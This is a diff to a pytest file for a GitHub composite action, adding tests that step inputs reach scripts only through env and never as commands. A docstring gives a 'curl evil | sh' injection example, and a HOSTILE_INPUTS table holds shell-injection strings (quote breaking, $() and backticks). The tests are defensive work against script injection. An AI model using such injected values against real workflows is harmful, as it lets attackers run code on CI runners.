@@ -8,6 +8,7 @@ import subprocess
 import sys
 import venv
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
@@ -81,10 +82,65 @@ def test_blame_test_in_a_github_job_writes_summary_and_annotations(tmp_path: Pat
     assert re.search(r"^::error file=prompts/coder\.md,title=.*CoderAgent", done.stdout, re.M)
 
 
-def _action_steps() -> list[dict[str, str]]:
+def _action_steps() -> list[dict[str, Any]]:
     action = yaml.safe_load((ROOT / "action.yml").read_text())
     assert action["runs"]["using"] == "composite"
     return list(action["runs"]["steps"])
+
+
+def _run_step(step: dict[str, Any], values: dict[str, str], env: dict[str, str], cwd: Path) -> Any:
+    """Run a step as the runner does: expressions are filled in its `env:` only."""
+    filled = {
+        name: re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", lambda m: values[m.group(1)], str(value))
+        for name, value in step.get("env", {}).items()
+    }
+    return subprocess.run(
+        ["bash", "-e", "-c", step["run"]],
+        cwd=cwd,
+        env={**env, **filled},
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=600,
+    )
+
+
+def test_no_step_pastes_an_expression_into_its_script() -> None:
+    """`${{ inputs.x }}` inside `run:` is pasted into the script before bash reads it: an input
+    such as `"; curl evil | sh; "` would run. Inputs go through `env:` instead."""
+    for step in _action_steps():
+        assert "${{" not in step["run"], step["name"]
+        assert all(str(value).startswith("${{") for value in step.get("env", {}).values())
+
+
+HOSTILE_INPUTS = {
+    "config": {"inputs.config": 'x"; touch PWNED; echo "'},
+    "junit-xml": {"inputs.junit-xml": '$(touch PWNED)"; touch PWNED; "'},
+    "args-substitution": {"inputs.args": "--replay $(touch PWNED) `touch PWNED`"},
+    "args-quotes": {"inputs.args": "';touch PWNED;'"},
+    "args-unbalanced": {"inputs.args": '--replay "; touch PWNED'},
+}
+
+
+@pytest.mark.parametrize("hostile", sorted(HOSTILE_INPUTS))
+def test_hostile_inputs_are_arguments_never_commands(tmp_path: Path, hostile: str) -> None:
+    """The suite step with the blame installed here: a shell payload in an input stays text."""
+    (tmp_path / "blame.yaml").write_text(
+        "tests:\n  - {name: t, trace: t.json, checks: [{type: contains, value: x}]}\n"
+    )
+    values = {
+        "inputs.config": "blame.yaml",
+        "inputs.junit-xml": "junit.xml",
+        "inputs.args": "",
+        **HOSTILE_INPUTS[hostile],
+    }
+    bin_dir = str(Path(sys.executable).parent)
+    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
+    done = _run_step(_action_steps()[1], values, env, tmp_path)
+    assert not (tmp_path / "PWNED").exists()
+    said = done.stdout + done.stderr
+    assert done.returncode == 2, said  # bad input (no such file, option or quote), one line
+    assert "error: " in said and "Traceback" not in said
 
 
 def test_the_example_workflow_is_valid_and_keeps_to_the_trust_rules() -> None:
@@ -116,16 +172,7 @@ def test_the_actions_steps_run_here_as_written(tmp_path: Path) -> None:
     }
     codes = []
     for step in _action_steps():
-        command = re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", lambda m: values[m.group(1)], step["run"])
-        done = subprocess.run(
-            ["bash", "-c", command],
-            cwd=EXAMPLES / "simple_agent",
-            env=env,
-            capture_output=True,
-            text=True,
-            check=False,
-            timeout=600,
-        )
+        done = _run_step(step, values, env, EXAMPLES / "simple_agent")
         codes.append(done.returncode)
         if done.returncode not in (0, 1):
             pytest.fail(f"{step['name']}: {done.stderr[-2000:]}")
